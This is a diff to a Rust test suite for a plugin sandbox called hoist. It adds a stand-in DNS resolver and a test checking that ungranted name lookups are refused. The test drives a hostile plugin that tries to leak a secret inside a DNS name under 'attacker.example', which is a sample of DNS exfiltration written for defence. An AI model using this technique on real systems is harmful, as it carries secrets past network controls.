@@ -880,8 +880,8 @@ async fn raw_sockets_follow_the_network_policy() {
         .await
         .unwrap();
     assert!(refused(&out, 0).contains("PermissionDenied"), "{out}");
-    // wasi-libc reports a refused lookup as EAI_FAIL.
-    assert!(refused(&out, 1).contains("lookup"), "{out}");
+    // Hoist's lookup refuses the name (`access-denied`, which the guest reads as such).
+    assert!(refused(&out, 1).contains("PermissionDenied"), "{out}");
     assert_eq!(hit_count(), 0, "no connection reached the server");
 
     // `net:*`: loopback needs a grant by name or address; no listening, no UDP.
@@ -944,6 +944,147 @@ async fn raw_sockets_follow_the_network_policy() {
         "{err}"
     );
     assert_eq!(hit_count(), 2, "no connection reached the server");
+}
+
+/// A stand-in DNS resolver (Python, UDP on `addr`:53): records every query's name in
+/// `log` and answers A queries with 192.0.2.7 (TEST-NET), others with no records. It
+/// stands in for the machine's resolver (and whoever serves the asked domain), which
+/// a test cannot watch; `hoist` is pointed at it through its own `/etc/resolv.conf`.
+fn resolver(addr: &str, log: &Path) -> support::Server {
+    let ready = log.with_extension("ready");
+    let mut cmd = std::process::Command::new("python3");
+    cmd.arg("-c").arg(format!(
+        "import socket, struct\n\
+         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(({addr:?}, 53))\n\
+         open({ready:?}, 'w').close()\n\
+         while True:\n    \
+         q, peer = s.recvfrom(512)\n    \
+         i, labels = 12, []\n    \
+         while q[i]: labels.append(q[i+1:i+1+q[i]].decode('ascii', 'replace')); i += 1 + q[i]\n    \
+         qtype = struct.unpack('>H', q[i+1:i+3])[0]; end = i + 5\n    \
+         with open({log:?}, 'a') as f: f.write('.'.join(labels) + '\\n')\n    \
+         head = q[:2] + struct.pack('>HHHHH', 0x8180, 1, 1 if qtype == 1 else 0, 0, 0)\n    \
+         answer = b'\\xc0\\x0c' + struct.pack('>HHIH', 1, 1, 60, 4) + bytes([192, 0, 2, 7]) if qtype == 1 else b''\n    \
+         s.sendto(head + q[12:end] + answer, peer)\n",
+        ready = ready.display().to_string(),
+        log = log.display().to_string(),
+    ));
+    let child = cmd
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("python3 runs the stand-in resolver");
+    let server = support::Server(child, 53);
+    for _ in 0..200 {
+        if ready.exists() {
+            return server;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(25));
+    }
+    panic!("the stand-in resolver did not start on {addr}:53");
+}
+
+/// `hoist` in a mount namespace of its own whose `/etc/resolv.conf` names only
+/// `nameserver`; `None` (a skip, said aloud) where mount namespaces cannot be made.
+fn hoist_with_resolver(dir: &Path, nameserver: &str) -> Option<std::process::Command> {
+    let works = std::process::Command::new("unshare")
+        .args(["--mount", "true"])
+        .status()
+        .is_ok_and(|s| s.success());
+    if !works {
+        assert!(
+            std::env::var_os("HOIST_REQUIRE_NAMESPACES").is_none(),
+            "HOIST_REQUIRE_NAMESPACES is set but `unshare --mount` fails (run as root, util-linux)"
+        );
+        support::skip("`unshare --mount` fails: the resolver cannot be swapped for one process");
+        return None;
+    }
+    let conf = dir.join("resolv.conf");
+    std::fs::write(
+        &conf,
+        format!("nameserver {nameserver}\noptions attempts:1 timeout:2\n"),
+    )
+    .unwrap();
+    let hoist = support::hoist(dir);
+    let mut cmd = std::process::Command::new("unshare");
+    cmd.args([
+        "--mount",
+        "sh",
+        "-c",
+        "mount --bind \"$0\" /etc/resolv.conf && exec \"$@\"",
+    ])
+    .arg(&conf)
+    .arg(hoist.get_program());
+    for (k, v) in hoist.get_envs() {
+        match v {
+            Some(v) => cmd.env(k, v),
+            None => cmd.env_remove(k),
+        };
+    }
+    Some(cmd)
+}
+
+/// A name lookup is traffic: the name reaches the resolver, so a step granted only
+/// `net:https://api.example.invalid` could carry a secret out inside a DNS name. Hoist
+/// serves `ip-name-lookup` itself: a name no `net` grant covers is refused before the
+/// resolver sees it (the stand-in resolver logs no query for it), with a denial naming
+/// the grant; the granted host is looked up (the control: the resolver answers it).
+#[test]
+fn a_name_lookup_reaches_the_resolver_only_for_a_host_a_grant_names() {
+    let (_t, dir) = support::tempdir();
+    let ns = format!(
+        "127.53.{}.{}",
+        std::process::id() % 250,
+        1 + std::process::id() % 7
+    );
+    let log = dir.join("queries");
+    let _resolver = resolver(&ns, &log);
+    let queries = || std::fs::read_to_string(&log).unwrap_or_default();
+    let step = |name: &str| {
+        let mut cmd = hoist_with_resolver(&dir, &ns)?;
+        cmd.current_dir(&dir)
+            .args(["step", "run", plugins::HOSTILE_NET])
+            .args(["--allow", "net:https://api.example.invalid"])
+            .arg("--input")
+            .arg(format!(
+                "actions=[{{\"do\":\"resolve\",\"name\":\"{name}:443\"}}]"
+            ));
+        Some(run(&mut cmd))
+    };
+    let leak = "hoist-secret-5e1f.attacker.example";
+    let Some((code, out, err)) = step(leak) else {
+        return;
+    };
+    assert_eq!(code, 0, "the refusal is the action's result: {err}");
+    assert!(
+        err.contains("may not look up the name `hoist-secret-5e1f.attacker.example`")
+            && err.contains("no `net` grant names that host"),
+        "{err}"
+    );
+    assert!(!out.contains("192.0.2.7"), "{out}");
+    assert!(
+        !queries().contains("5e1f"),
+        "the resolver saw: {}",
+        queries()
+    );
+    for dressed in [
+        "HOIST-SECRET-5E1F.attacker.example.",
+        "api.example.invalid.attacker.example",
+    ] {
+        let (_, out, _) = step(dressed).unwrap();
+        assert!(!out.contains("192.0.2.7"), "{dressed}: {out}");
+    }
+    assert!(
+        !queries().to_ascii_lowercase().contains("attacker"),
+        "the resolver saw: {}",
+        queries()
+    );
+
+    // The control: the granted host is looked up, through the same resolver.
+    let (code, out, err) = step("api.example.invalid").unwrap();
+    assert_eq!(code, 0, "{err}");
+    assert!(out.contains("192.0.2.7:443"), "{out}\n{err}");
+    assert!(queries().contains("api.example.invalid"), "{}", queries());
 }
 
 /// The instance pool resets a reused memory slot in place (the pages the last instance
